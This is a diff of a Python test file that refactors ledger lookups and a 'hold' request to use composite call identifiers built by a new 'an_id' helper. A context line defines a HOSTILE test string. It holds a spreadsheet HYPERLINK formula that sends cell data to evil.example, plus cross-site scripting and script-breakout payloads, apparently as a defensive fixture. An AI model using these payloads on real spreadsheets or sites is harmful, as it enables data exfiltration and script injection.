@@ -41,6 +41,7 @@ from tests.fakes import (
     FakeNotes,
     FakeProvider,
     FakeStitcher,
+    an_id,
 )
 
 HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1)<img src=x onerror=alert(1)></script><script>'
@@ -232,7 +233,7 @@ class Court:
         )
         until = self.clock.now() + HOUR
         archive([Message("m", job.to_message())], shop=shop, until=until, guard=no_guard)
-        entry = self.ledger.load(provider, listing.account, listing.call)
+        entry = self.ledger.load(an_id(listing.call, provider=provider, account=listing.account))
         assert entry.status == "archived", entry
 
     def _known(self, provider, audio):
@@ -249,7 +250,7 @@ class Court:
             catalogue=self.catalogue,
             accesses=self.accesses,
         )
-        asked = {"action": "hold", "call": "k-1", "provider": "kazoo", "case": CASE}
+        asked = {"action": "hold", "call": "kazoo/a/k-1", "case": CASE}
         reply = hold.answer(
             json.dumps(asked | {"reason": "complaint"}).encode(), by=ALICE, work=work
         )
